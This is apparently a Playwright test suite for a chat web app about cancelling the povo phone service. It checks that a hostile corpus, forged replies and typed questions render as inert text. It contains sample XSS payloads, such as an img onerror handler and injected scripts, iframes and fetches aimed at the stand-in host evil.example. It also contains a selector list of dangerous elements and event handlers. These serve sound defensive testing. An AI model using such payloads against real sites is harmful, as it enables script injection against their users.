"""A hostile corpus in a browser, on every view: nothing runs, nothing loads, nothing looks official that isn't."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from html import unescape
from typing import Any

import pytest
from playwright.sync_api import Browser, Locator, Page, expect
from web.chat_page import PHONE, ChatPage
from web.chat_server import ChatServer
from web.hostile_corpus import ATTACKS, LOOK_ALIKES, OFFICIAL_URL, QUESTION, QUESTIONS

from qa.corpus.characters import visible
from qa.corpus.hosts import host_of
from qa.datatypes import Language
from qa.web.texts import text

pytestmark = pytest.mark.browser

OpenChat = Callable[..., ChatPage]
VIEWS = ("/en/guides/povo", "/zh-Hant/guides/povo", "/en/operators", "/ja/operators", "/en/guides/%3Cscript%3E")
MARKDOWN = ("**bold** _it_ `code`", "[link](https://evil.example)", "![p](https://evil.example/p.png)", "# head", "$$x$$")
# All that an answer and a guide are made of.
TAGS = {
    *("article", "blockquote", "div", "header", "hr", "nav", "p", "pre", "section", "h1", "h2", "h3", "h4", "h5", "h6"),
    *("ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "details", "summary"),
    *("a", "b", "br", "button", "code", "em", "i", "mark", "small", "span", "strong", "sup"),
}
ATTRIBUTES = {
    *("class", "id", "lang", "href", "hreflang", "target", "rel", "start", "open", "type", "role", "tabindex"),
    *("aria-hidden", "aria-label", "aria-labelledby"),
}
# What only a corpus could have brought in, wherever it stands on the page.
FOREIGN = (
    "iframe, object, embed, base[href*='evil'], math, mglyph, video, audio, marquee, meta[http-equiv=refresh], [srcdoc], [onclick], [onerror], [onload],"
    " [onmouseover], [onfocus], [ontoggle], [style*='evil'], [src*='evil'], link[href*='evil'], [action*='evil'], [formaction]"
)

READ = """root => {
  const elements = [...root.querySelectorAll("*")];
  // Words that Markdown cut into pieces are read as one.
  const own = root.cloneNode(true);
  own.querySelectorAll("a.marker, .payload").forEach(each => each.remove());
  own.querySelectorAll("summary").forEach(each => (each.textContent = each.textContent.replace(/^\\[\\d+\\]/, "")));
  return {
    tags: [...new Set(elements.map(each => each.localName))],
    attributes: [...new Set(elements.flatMap(each => each.getAttributeNames()))],
    text: own.textContent,
    whole: root.textContent,
    links: elements.filter(each => each.localName === "a").map(each => ({
      href: each.getAttribute("href"), host: new URL(each.href).host, kind: each.className, text: each.textContent,
      protocol: new URL(each.href).protocol, origin: new URL(each.href).origin,
    })),
  };
}"""


def open_all(page: Page, root: str) -> None:
    """Open every <details> in root, and let the mouse and the keyboard pass over everything in it."""
    page.locator(root).evaluate_all(
        """roots => roots.flatMap(root => [...root.querySelectorAll("*")]).forEach(each => {
             if (each.localName === "details") each.open = true;
             for (const kind of ["mouseover", "mouseenter", "focus", "toggle", "load", "error"])
               each.dispatchEvent(new Event(kind, {bubbles: kind === "mouseover"}));
           })"""
    )


def assert_harmless(page: Page, root: Locator) -> dict[str, Any]:
    """Assert that nothing in root could run, load, or pass for what it isn't; return what is in it."""
    expect(page.locator(FOREIGN)).to_have_count(0)
    read: dict[str, Any] = root.evaluate(READ)
    assert set(read["tags"]) <= TAGS
    assert set(read["attributes"]) <= ATTRIBUTES
    assert visible(read["whole"]) == read["whole"]
    assert re.findall(r"\[\s*\d+\s*\]", read["text"]) == []
    for link in read["links"]:
        if link["origin"] == page.evaluate("location.origin"):
            assert re.match(r"#|/(?:en|ja|zh-Hans|zh-Hant)/", link["href"])
            continue
        assert link["protocol"] == "https:"
        assert link["kind"] in ("outside", "official")
        assert link["host"].removeprefix("www.") in link["text"].lower()
        assert link["text"].endswith("↗")
        assert (link["kind"] == "official") <= (link["href"] == OFFICIAL_URL)
    return read


@pytest.fixture(scope="module")
def asked(browser: Browser, hostile_chat: ChatServer) -> Iterator[ChatPage]:
    """Return a page on which every question of the corpus was asked; it may have asked no other host for anything, nor had an error."""
    chat = ChatPage.opened(browser, hostile_chat, "en")
    for question in QUESTIONS:
        chat.ask(question)
    yield chat
    chat.close()
    assert chat.strange == []


@pytest.mark.parametrize("number", range(len(QUESTIONS)), ids=QUESTIONS)
def test_nothing_in_an_answer_runs_loads_or_passes_for_what_it_is_not(number: int, asked: ChatPage) -> None:
    open_all(asked.page, "#chat .answer")
    assert_harmless(asked.page, asked.answer(number))
    expect(asked.page).to_have_title(text("title", Language.EN))


def test_the_questions_come_to_every_outcome_and_to_all_kinds_of_links(asked: ChatPage) -> None:
    for outcome in ("answered", "related", "not_covered"):
        expect(asked.page.locator(f"#chat .answer.{outcome}").first).to_be_attached()
    for kind in ("outside", "official", "marker"):
        expect(asked.page.locator(f"#chat .answer a.{kind}").first).to_be_attached()


def test_every_attack_is_read_as_text(asked: ChatPage) -> None:
    section = asked.answer(QUESTIONS.index(QUESTION)).locator(".section").first
    for attack in ATTACKS:
        assert unescape(attack) in (section.text_content() or "")


def test_a_link_that_passes_for_another_shows_where_it_leads_or_is_none(asked: ChatPage) -> None:
    items = asked.answer(2).locator(".section li")
    expect(items).to_have_count(len(LOOK_ALIKES))
    for number, (_, host) in enumerate(LOOK_ALIKES):
        links = items.nth(number).locator(":scope a").filter(visible=None).all()
        led_to = [link.evaluate("each => new URL(each.href).host") for link in links if "sup" not in _ancestors(link)]
        assert led_to == ([host] if host else [])


def _ancestors(link: Locator) -> list[str]:
    return list(
        link.evaluate(
            "each => { const names = []; while ((each = each.parentElement)) names.push(each.localName); return names; }"
        )
    )


def test_nothing_but_the_front_matters_own_page_is_official(asked: ChatPage) -> None:
    official = asked.page.locator("#chat .official, #chat a.official")
    hrefs = set(
        official.evaluate_all(
            "all => all.map(each => each.closest('a')?.getAttribute('href') ?? each.querySelector('a').getAttribute('href'))"
        )
    )
    assert hrefs == {OFFICIAL_URL}
    for inside in (".quote", ".section", ".sources", "summary"):
        expect(asked.page.locator(f"#chat .answer {inside} .official")).to_have_count(0)


def test_what_is_suggested_is_read_as_text_and_can_be_asked(open_chat: OpenChat, hostile_chat: ChatServer) -> None:
    chat = open_chat(hostile_chat, "en")
    chat.ask("How do I cancel povoo?")
    suggested = chat.suggestions.all_inner_texts()
    assert [each for each in suggested if '<b onclick="1">povo</b>' in each] == suggested != []
    chat.suggestions.first.click()
    assert_harmless(chat.page, chat.answer(1))
    assert_harmless(chat.page, chat.page.locator("#chat .options").first)


def test_after_a_reload_the_conversation_is_as_harmless_as_before(open_chat: OpenChat, hostile_chat: ChatServer) -> None:
    chat = open_chat(hostile_chat, "en")
    before = [chat.ask(question).text_content() for question in QUESTIONS[:2]]
    chat.reload()
    chat.answer(1)
    assert chat.answers.all_text_contents() == before
    open_all(chat.page, "#chat")
    for number in range(2):
        assert_harmless(chat.page, chat.answer(number))
    expect(chat.page).to_have_title(text("title", Language.EN))


def test_a_conversation_that_was_forged_in_the_browser_runs_nothing(open_chat: OpenChat, hostile_chat: ChatServer) -> None:
    chat = open_chat(hostile_chat, "en")
    chat.page.route(
        "**/gradio_api/run/predict*",
        lambda route: route.fulfill(json=_with_attacks(route.fetch().json())),
    )
    chat.ask(QUESTION)
    open_all(chat.page, "#chat")
    expect(chat.page.locator("#chat").locator("script, iframe, img, [onerror], [onload], [onclick]")).to_have_count(0)
    expect(chat.page).to_have_title(text("title", Language.EN))


def _with_attacks(reply: Any) -> Any:
    """Return a reply of the server whose every message holds attacks as HTML, as one that was kept in the browser could."""
    if isinstance(reply, dict):
        spoilt = {key: _with_attacks(value) for key, value in reply.items()}
        if isinstance(reply.get("content"), str):
            harmful = "".join(each for each in ATTACKS[:6] if "evil.example" not in each)
            spoilt["content"] = reply["content"] + harmful
        return spoilt
    return [_with_attacks(each) for each in reply] if isinstance(reply, list) else reply


@pytest.mark.parametrize("path", VIEWS)
def test_nothing_on_a_page_that_can_be_read_without_asking_runs_or_loads(
    path: str, open_chat: OpenChat, hostile_chat: ChatServer
) -> None:
    chat = open_chat(hostile_chat, "en")
    chat.strange.clear()
    chat.page.goto(hostile_chat.url + path)
    title = chat.page.title()
    open_all(chat.page, "main")
    main = chat.page.locator("main")
    if path.endswith("operators"):
        expect(chat.page.locator(FOREIGN)).to_have_count(0)
        assert visible(main.text_content() or "") == main.text_content()
    else:
        assert_harmless(chat.page, main)
    assert "pwned" != chat.page.title() == title
    chat.strange[:] = [each for each in chat.strange if "status of 404" not in each]


def test_a_hostile_guides_page_calls_nothing_official_but_its_own_page(open_chat: OpenChat, hostile_chat: ChatServer) -> None:
    chat = open_chat(hostile_chat, "en")
    chat.page.goto(f"{hostile_chat.url}/en/guides/povo")
    official = chat.page.locator("a.official, .official a")
    assert {each.get_attribute("href") for each in official.all()} == {OFFICIAL_URL}
    expect(official.first).to_contain_text(host_of(OFFICIAL_URL))


def test_a_hostile_question_is_shown_as_typed_and_stays_so_after_a_reload(
    open_chat: OpenChat, hostile_chat: ChatServer
) -> None:
    chat = open_chat(hostile_chat, "en")
    questions = [f"cancel povo {attack}" for attack in (*ATTACKS[:8], *MARKDOWN)]
    for question in questions:
        chat.ask(question)
    expect(chat.questions).to_have_text(questions)
    chat.reload()
    expect(chat.questions).to_have_text(questions)
    for shown in chat.questions.all():
        assert set(shown.evaluate(READ)["tags"]) <= {"br"}


def test_characters_that_deceive_the_eye_are_not_shown_in_a_question(open_chat: OpenChat, hostile_chat: ChatServer) -> None:
    chat = open_chat(hostile_chat, "en")
    chat.ask("cancel \u202eovop\u202c po\u200bvo \U000e0041 \u2066x\u2069")
    assert chat.questions.all_text_contents() == ["cancel ovop povo  x"]


def test_a_question_in_the_address_is_text_too(open_chat: OpenChat, hostile_chat: ChatServer) -> None:
    chat = open_chat(hostile_chat, "en")
    chat.page.goto(f"{hostile_chat.url}/en/?q=povo%20%3Cimg%20src=x%20onerror=document.title='pwned'%3E%E2%80%AE")
    chat.answer(0)
    assert chat.questions.all_text_contents() == ["povo <img src=x onerror=document.title='pwned'>"]
    expect(chat.page).to_have_title(text("title", Language.EN))


def test_a_hostile_guide_does_not_make_a_phone_scroll_sideways(open_chat: OpenChat, hostile_chat: ChatServer) -> None:
    chat = open_chat(hostile_chat, "en", size=PHONE)
    for question in QUESTIONS[:4]:
        chat.ask(question)
    open_all(chat.page, "#chat")
    assert chat.fits_its_width()


def test_the_page_has_no_share_button_and_leads_nowhere_else(asked: ChatPage) -> None:
    expect(
        asked.page.locator(
            "button[aria-label*='hare' i], [class*='share-button'], a[href*='gradio.app'], a[href*='huggingface']"
        )
    ).to_have_count(0)
    outside = asked.page.locator("a[href^='http']").evaluate_all(
        "all => all.filter(each => !each.closest('.answer')).map(each => each.href)"
    )
    assert [each for each in outside if not each.startswith(asked.server.url)] == []


def test_the_browser_keeps_everything_from_running_that_a_guide_could_smuggle_in(
    open_chat: OpenChat, hostile_chat: ChatServer
) -> None:
    chat = open_chat(hostile_chat, "en")
    blocked: list[str] = []
    chat.page.on("requestfailed", lambda request: blocked.append(request.url) if request.failure == "csp" else None)
    smuggled = """() => {
      const refused = [];
      document.addEventListener("securitypolicyviolation", event => refused.push(event.effectiveDirective));
      const script = document.createElement("script"); script.textContent = "document.title = 'pwned'"; document.body.append(script);
      const far = document.createElement("script"); far.src = "https://evil.example/x.js"; document.body.append(far);
      const frame = document.createElement("iframe"); frame.src = "https://evil.example/"; document.body.append(frame);
      new Image().src = "https://evil.example/i.png";
      new Image().src = "data:image/gif;base64,R0lGODlhAQABAAAAACw=";
      document.body.insertAdjacentHTML("beforeend", "<p onclick='document.title=\\"pwned\\"' id='smuggled'></p>");
      document.getElementById("smuggled").click();
      // Later, for the debugger that runs this may eval.
      setTimeout(() => { try { eval("document.title = 'pwned'"); } catch { refused.push("eval"); } });
      fetch("https://evil.example/").catch(() => refused.push("fetch"));
      return new Promise(done => setTimeout(() => {
        script.remove(); far.remove(); frame.remove(); document.getElementById("smuggled").remove(); done([...new Set(refused)].sort());
      }, 500));
    }"""
    refused = chat.page.evaluate(smuggled)
    assert refused == [
        "connect-src",
        "eval",
        "fetch",
        "frame-src",
        "img-src",
        "script-src",
        "script-src-attr",
        "script-src-elem",
    ]
    expect(chat.page).to_have_title(text("title", Language.EN))
    # The browser says of each that it was refused, and asks for nothing of it.
    assert len(blocked) >= len(("script", "image"))
    announced = [f"request to {url}" for url in blocked]
    chat.strange[:] = [each for each in chat.strange if each not in announced and "Content Security Policy" not in each]
